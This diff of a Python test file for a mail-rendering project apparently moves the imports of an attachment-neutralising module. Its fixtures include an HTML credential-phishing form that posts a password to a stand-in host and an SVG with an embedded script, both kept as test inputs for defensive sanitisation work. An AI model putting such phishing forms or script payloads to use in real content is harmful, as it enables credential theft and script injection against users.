@@ -7,9 +7,9 @@ from hashlib import sha256
 
 import pytest
 
+from mailbridge.delivery.render.inert import OPAQUE, inert
+from mailbridge.delivery.render.mime import file_part
 from mailbridge.message.model import Attachment
-from mailbridge.outbox.inert import OPAQUE, inert
-from mailbridge.outbox.mime import file_part
 
 PAGE = b"<html><form action=https://attacker.test>Password: <input name=p></form></html>"
 SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
